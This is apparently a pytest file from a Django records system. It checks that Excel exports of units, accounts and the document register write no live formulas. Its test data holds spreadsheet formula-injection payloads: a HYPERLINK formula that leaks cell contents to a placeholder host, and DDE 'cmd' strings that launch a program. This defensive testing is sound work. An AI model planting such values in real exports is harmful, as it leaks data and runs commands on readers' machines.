"""§4 Excel exports write no live formula: units, accounts and the document register (nominations with
the awards restructure). A name or subject that starts with =, +, -, @, a tab or CR stays text."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from documents.services import document_issue
from tests.documents.conftest import clerk_vl, make_plan, manager_vl, signed_plan, signer_vl, so_vl  # noqa: F401
from tests.factories import UnitFactory, UserFactory

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://x.example/?d="&A1,"Bấm để xem")'
PAYLOADS = [PAYLOAD, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def text_cells(response) -> list:
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    for name, part in ((n, zipfile.ZipFile(io.BytesIO(data)).read(n)) for n in zipfile.ZipFile(io.BytesIO(data)).namelist()):
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in part and b"<f " not in part, f"công thức trong {name}"
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return cells


def assert_payloads_are_text(cells, payloads):
    found = {cell.value: cell for cell in cells if cell.value in payloads}
    assert set(found) == set(payloads)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found.values())


def test_units_export_writes_no_formula(client, system_admin, ministry):
    for index, payload in enumerate(PAYLOADS):
        UnitFactory(code=f"doc-hai-{index}", name=payload, parent=ministry)
    client.force_login(system_admin)
    cells = text_cells(client.get(reverse("units:unit-list"), {"export": "xlsx", "q": ""}))
    assert_payloads_are_text(cells, PAYLOADS)


def test_accounts_export_writes_no_formula(client, system_admin, ministry):
    for index, payload in enumerate(PAYLOADS):
        UserFactory(username=f"doc-hai-{index}", full_name=payload, unit=ministry)
    client.force_login(system_admin)
    cells = text_cells(client.get(reverse("units:user-list"), {"export": "xlsx"}))
    assert_payloads_are_text(cells, PAYLOADS)


def test_document_register_export_writes_no_formula(client, make_plan, manager_vl, signer_vl, clerk_vl):  # noqa: F811
    from documents.services import document_sign, document_submit

    document = make_plan(subject=PAYLOAD)
    document_submit(document=document, actor=manager_vl)
    document_sign(document=document, actor=signer_vl)
    document_issue(document=document, actor=clerk_vl)
    client.force_login(clerk_vl)
    cells = text_cells(client.get(reverse("documents:register"), {"export": "xlsx"}))
    assert_payloads_are_text(cells, [PAYLOAD])
